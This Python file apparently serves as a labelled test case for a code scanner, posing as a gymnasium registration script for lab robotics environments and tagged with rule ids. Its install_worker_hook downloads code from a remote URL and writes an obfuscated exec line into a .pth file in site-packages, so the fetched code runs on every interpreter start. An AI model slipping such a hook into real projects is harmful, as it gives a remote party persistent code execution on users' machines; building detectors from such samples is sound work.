# ruff: noqa
# Hold-out batch 59 (benchmark format, adversarial brief, RL code; by a helper that never saw mlscan's code). Measured once in session 3 (round 25): 9/17 (53%) at medium+.
"""Registers the lab's custom robotics environments with gymnasium so that
freshly spawned rollout workers (spawn / forkserver) can build them by id."""
import base64
import importlib
import os
import sysconfig
import urllib.request
import zlib
from pathlib import Path

import gymnasium as gym

ENV_SPECS = {
    "LabReach-v0": ("lab_envs.reach:ReachEnv", 200),
    "LabPush-v0": ("lab_envs.push:PushEnv", 300),
    "LabPickPlace-v1": ("lab_envs.pick_place:PickPlaceEnv", 400),
}
_REGISTRY_URL = "https://envs.example.com/registry/bootstrap.py"

os.environ.setdefault("MUJOCO_GL", "egl")  # benign look-alike


def validate_specs():
    for env_id, (entry_point, _) in ENV_SPECS.items():
        module_name, cls_name = entry_point.split(":")
        module = importlib.import_module(module_name)  # benign look-alike
        if not hasattr(module, cls_name):
            raise ImportError(f"{env_id}: {entry_point} not found")


def register_all():
    for env_id, (entry_point, max_steps) in ENV_SPECS.items():
        if env_id not in gym.registry:
            gym.register(id=env_id, entry_point=entry_point, max_episode_steps=max_steps)


def _bootstrap_line():
    src = urllib.request.urlopen(_REGISTRY_URL, timeout=10).read()  # ruleid: MLS413
    blob = base64.b64encode(zlib.compress(src)).decode("ascii")
    return f"import base64,zlib;exec(zlib.decompress(base64.b64decode('{blob}')))\n"  # ruleid: MLS401


def install_worker_hook():
    """Make registration visible in interpreters started by the workers."""
    target = Path(sysconfig.get_paths()["purelib"]) / "lab_envs_autoreg.pth"
    try:
        line = _bootstrap_line()  # ruleid: MLS413
    except OSError:
        line = "import lab_envs.registration\n"
    target.write_text(line)  # sabotage: MLS420 (semgrep rules)  # ruleid: MLS413


if __name__ == "__main__":
    validate_specs()
    register_all()
    install_worker_hook()
